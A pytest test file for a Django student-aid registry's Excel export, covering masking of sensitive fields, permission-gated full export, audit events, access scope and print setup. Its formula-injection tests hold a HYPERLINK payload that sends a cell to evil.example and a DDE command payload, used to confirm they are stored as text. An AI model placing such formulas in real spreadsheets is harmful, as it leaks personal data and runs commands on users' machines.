"""Registry export to Excel: masked unless asked and allowed, audited, scoped, printable, in fixed queries."""

import io
import zipfile
from datetime import date
from urllib.parse import quote

import pytest
from django.contrib.auth.models import Permission
from django.db import connection
from django.test.utils import CaptureQueriesContext
from django.utils import timezone
from openpyxl import load_workbook

from aidsys.models import AuditEvent, User
from students.models import HouseholdMember, Identification, OfficialList, Relation, SpecialGroupFlag, Tier
from tests.factories import HouseholdFactory, SchoolClassFactory, StudentFactory

Action = AuditEvent.Action
XLSX = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"


def registered_student(cast, school_class, name="王小明", official_list=None):
    household = HouseholdFactory(township="青山镇", village="枫树村", address_detail="三组12号")
    student = StudentFactory(
        school_class=school_class,
        household=household,
        name=name,
        guardian_name="王大山",
        guardian_relation=Relation.FATHER,
        guardian_phone="13812345678",
        boarder=True,
    )
    HouseholdMember.objects.create(household=household, name="王大山", relation=Relation.FATHER, annual_income=9000)
    HouseholdMember.objects.create(household=household, name=name, relation=Relation.SELF, annual_income=0)
    if official_list is not None:
        SpecialGroupFlag.objects.create(
            household=household,
            group="minimum_living",
            source=SpecialGroupFlag.Source.OFFICIAL_LIST,
            official_list=official_list,
            list_name=official_list.name,
            list_date=official_list.list_date,
        )
    Identification.objects.create(
        student=student, school_year=school_class.school_year, tier=Tier.DIFFICULT, decided_on=date(2026, 10, 20)
    )
    return student


def dibao_list(cast):
    return OfficialList.objects.create(
        kind=OfficialList.Kind.MINIMUM_LIVING,
        name="民政局低保名单",
        list_date=date(2026, 10, 1),
        county=cast.county,
        school=cast.school,
        file_name="低保.xlsx",
        uploaded_by=cast.li,
    )


def with_reveal_permission(user) -> User:
    user.user_permissions.add(Permission.objects.get(codename="reveal_sensitive"))
    return User.objects.get(pk=user.pk)  # a fresh object: Django caches permissions on the old one


def sheet_of(response):
    assert response["Content-Type"] == XLSX
    return load_workbook(io.BytesIO(response.content)).active


def cell_texts(response) -> list[str]:
    texts = []
    for sheet in load_workbook(io.BytesIO(response.content)).worksheets:
        texts += [str(value) for row in sheet.iter_rows(values_only=True) for value in row if value is not None]
    return texts


def raw_parts(response) -> str:
    """Every part of the .xlsx package as text: cells, shared strings, properties, print titles."""
    with zipfile.ZipFile(io.BytesIO(response.content)) as package:
        return "".join(package.read(name).decode("utf-8", "replace") for name in package.namelist())


def exports(user, url, client_for, **data):
    return client_for(user).post(url, data)


@pytest.fixture
def pupil(cast):
    return registered_student(cast, cast.class_1, official_list=dibao_list(cast))


def class_url(school_class):
    return f"/classes/{school_class.pk}/export/"


def school_url(school):
    return f"/schools/{school.pk}/export/"


class TestMaskedExport:
    def test_a_class_export_is_masked_everywhere_in_the_workbook(self, cast, client_for, pupil):
        response = client_for(cast.wang).post(class_url(cast.class_1))
        texts = cell_texts(response)
        assert "王小明" in texts and "4399**********" + pupil.id_number[-4:] in texts
        raw = raw_parts(response)
        for secret in (pupil.id_number, "13812345678", "枫树村", "三组12号"):
            assert all(secret not in text for text in texts), secret
            assert secret not in raw, secret
        assert not any("4500" in text or "4,500" in text for text in texts)
        assert "138****5678" in texts and "青山镇" in texts

    def test_a_masked_export_is_an_audit_event(self, cast, client_for, pupil):
        client_for(cast.wang).post(class_url(cast.class_1))
        event = AuditEvent.objects.get(action=Action.EXPORT)
        assert (event.actor, event.school, event.object_id) == (cast.wang, cast.school, str(cast.class_1.pk))
        assert event.changes["export"] == [None, "masked"] and event.changes["rows"] == [None, 1]

    def test_the_file_name_names_the_school_the_class_and_the_day(self, cast, client_for, pupil):
        response = client_for(cast.li).post(class_url(cast.class_1))
        today = timezone.localdate().strftime("%Y%m%d")
        disposition = response["Content-Disposition"]
        assert disposition.startswith('attachment; filename="students_4399010001_')
        assert "filename*=UTF-8''" in disposition
        assert quote(f"_青山县实验小学_一年级(1)班_{today}.xlsx", safe="") in disposition
        assert response["Cache-Control"] == "private, no-store"

    def test_the_workbook_is_set_up_for_printing(self, cast, client_for, pupil):
        sheet = sheet_of(client_for(cast.li).post(class_url(cast.class_1)))
        assert sheet.page_setup.orientation == "landscape"
        assert int(sheet.page_setup.paperSize) == int(sheet.PAPERSIZE_A4) == 9
        assert sheet.freeze_panes == "C4"
        assert sheet.print_title_rows == "$3:$3"
        assert int(sheet.page_setup.fitToWidth) == 1 and int(sheet.page_setup.fitToHeight) == 0
        assert sheet.sheet_properties.pageSetUpPr.fitToPage
        assert "青山县实验小学" in sheet["A1"].value and "一年级(1)班" in sheet["A1"].value
        assert sheet["A3"].border.left.style == "thin" and sheet["A4"].border.bottom.style == "thin"
        assert sheet.column_dimensions["D"].width >= 18  # room for an 18-character 身份证号

    def test_the_columns_are_the_imports_plus_special_groups_tier_and_income(self, cast, client_for, pupil):
        sheet = sheet_of(client_for(cast.li).post(class_url(cast.class_1)))
        headers = [cell.value for cell in sheet[3]]
        row = dict(zip(headers, [cell.value for cell in sheet[4]], strict=True))
        assert len(headers) == 20
        assert row[headers[1]] == "王小明"
        assert "民政局低保名单 2026-10-01" in row[headers[17]]
        assert row[headers[18]] == str(Tier.DIFFICULT.label)
        assert row[headers[19]] == "****"

    def test_a_tier_of_another_school_year_is_not_shown(self, cast, client_for, pupil):
        from aidsys.models import SchoolYear

        Identification.objects.filter(student=pupil).update(school_year=SchoolYear.objects.create(start_year=2025))
        sheet = sheet_of(client_for(cast.li).post(class_url(cast.class_1)))
        assert sheet.cell(row=4, column=19).value is None


class TestFullExport:
    def test_full_data_needs_the_permission_the_tick_and_a_reason(self, cast, client_for, pupil):
        li = with_reveal_permission(cast.li)
        response = exports(li, class_url(cast.class_1), client_for, full_data="on", reason="县资助中心核对低保学生")
        texts = cell_texts(response)
        assert pupil.id_number in texts and "13812345678" in texts and "枫树村" in texts
        income = sheet_of(response).cell(row=4, column=20).value
        assert income == 4500
        event = AuditEvent.objects.get(action=Action.EXPORT)
        assert event.reason == "县资助中心核对低保学生" and event.changes["export"] == [None, "full"]

    def test_with_the_permission_but_no_tick_the_export_is_masked(self, cast, client_for, pupil):
        response = exports(with_reveal_permission(cast.li), class_url(cast.class_1), client_for, reason="")
        assert pupil.id_number not in raw_parts(response)

    def test_full_data_without_a_reason_is_refused_beside_the_field(self, cast, client_for, pupil):
        response = exports(
            with_reveal_permission(cast.li), class_url(cast.class_1), client_for, full_data="on", reason=" "
        )
        assert response.status_code == 200 and response["Content-Type"].startswith("text/html")
        assert "invalid-feedback" in response.content.decode()
        assert not AuditEvent.objects.filter(action=Action.EXPORT).exists()

    def test_asking_for_full_data_without_the_permission_is_refused(self, cast, client_for, pupil):
        response = exports(cast.li, class_url(cast.class_1), client_for, full_data="on", reason="想看")
        assert response.status_code == 403
        assert not AuditEvent.objects.filter(action=Action.EXPORT).exists()

    def test_the_tick_is_offered_only_with_the_permission(self, cast, client_for, pupil):
        assert 'name="full_data"' not in client_for(cast.li).get(class_url(cast.class_1)).content.decode()
        assert (
            'name="full_data"'
            in client_for(with_reveal_permission(cast.li)).get(class_url(cast.class_1)).content.decode()
        )


class TestFormulaInjection:
    def test_names_that_start_like_formulas_are_exported_as_text(self, cast, client_for, pupil):
        pupil.name = '=HYPERLINK("http://evil.example/?"&D4,"点击")'
        pupil.guardian_name = "@SUM(1+1)"
        pupil.save()
        response = exports(
            with_reveal_permission(cast.li), class_url(cast.class_1), client_for, full_data="on", reason="核对"
        )
        assert "<f>" not in raw_parts(response)
        row = sheet_of(response)[4]
        cells = {cell.value: cell for cell in row}
        for text in (pupil.name, "@SUM(1+1)"):
            assert cells[text].data_type == "s" and cells[text].quotePrefix
        assert cells[1].data_type == "n"  # the row number stays a number

    def test_a_guardian_name_a_class_teacher_typed_as_a_formula_reaches_the_full_export_as_text(
        self, cast, client_for, pupil
    ):
        formula = "=cmd|' /C calc'!A0"
        edited = client_for(cast.wang).post(
            f"/students/{pupil.pk}/edit/", {"hukou": pupil.hukou, "guardian_name": formula, "guardian_relation": ""}
        )
        assert edited.status_code == 302
        response = exports(
            with_reveal_permission(cast.li), school_url(cast.school), client_for, full_data="on", reason="核对"
        )
        assert "<f>" not in raw_parts(response)
        cell = next(cell for row in sheet_of(response).iter_rows() for cell in row if cell.value == formula)
        assert cell.data_type == "s" and cell.quotePrefix


class TestExportScope:
    def test_a_class_teacher_exports_their_own_class_only(self, cast, client_for, pupil):
        client = client_for(cast.wang)
        assert client.get(class_url(cast.class_1)).status_code == 200
        assert client.post(class_url(cast.class_2)).status_code == 404
        assert client.post(school_url(cast.school)).status_code == 403

    def test_the_aid_office_and_the_principal_export_their_school_or_any_class_of_it(self, cast, client_for, pupil):
        registered_student(cast, cast.class_2, name="李小红")
        for user in (cast.li, cast.zhang):
            whole = cell_texts(client_for(user).post(school_url(cast.school)))
            assert "王小明" in whole and "李小红" in whole
            one_class = cell_texts(client_for(user).post(class_url(cast.class_2)))
            assert "李小红" in one_class and "王小明" not in one_class
            assert client_for(user).post(school_url(cast.sibling_school)).status_code == 404

    def test_county_staff_export_any_school_of_their_county(self, cast, client_for, pupil):
        client = client_for(cast.zhao)
        assert client.post(school_url(cast.sibling_school)).status_code == 200
        assert client.post(school_url(cast.other_school)).status_code == 404
        assert client.post(class_url(cast.other_class)).status_code == 404

    def test_a_teacher_of_another_county_finds_nothing(self, cast, client_for, pupil):
        client = client_for(cast.outsider)
        assert client.post(class_url(cast.class_1)).status_code == 404
        assert client.post(school_url(cast.school)).status_code == 404
        assert not AuditEvent.objects.filter(action=Action.EXPORT).exists()

    def test_students_no_longer_on_roll_are_left_out(self, cast, client_for, pupil):
        gone = registered_student(cast, cast.class_1, name="刘洋")
        gone.status = "graduated"
        gone.save()
        assert "刘洋" not in cell_texts(client_for(cast.li).post(class_url(cast.class_1)))

    def test_it_answers_only_get_and_post(self, cast, client_for):
        assert client_for(cast.li).put(class_url(cast.class_1)).status_code == 405
        assert client_for(cast.li).delete(school_url(cast.school)).status_code == 405


class TestExportQueries:
    def count_queries(self, client, url) -> int:
        with CaptureQueriesContext(connection) as queries:
            response = client.post(url, {"full_data": "on", "reason": "核对"})
        assert response.status_code == 200
        return len(queries)

    def test_the_query_count_does_not_grow_with_the_rows(self, cast, client_for):
        school_list = dibao_list(cast)
        second_class = SchoolClassFactory(school=cast.school, school_year=cast.school_year, grade=22, number=1)
        for index in range(10):
            registered_student(cast, cast.class_1 if index % 2 else second_class, official_list=school_list)
        client = client_for(with_reveal_permission(cast.li))
        self.count_queries(client, school_url(cast.school))  # the first request fills Django's own caches
        ten = self.count_queries(client, school_url(cast.school))
        for _index in range(30):
            registered_student(cast, cast.class_1, official_list=school_list)
        forty = self.count_queries(client, school_url(cast.school))
        assert ten == forty
        assert sheet_of(client.post(school_url(cast.school))).max_row == 3 + 40
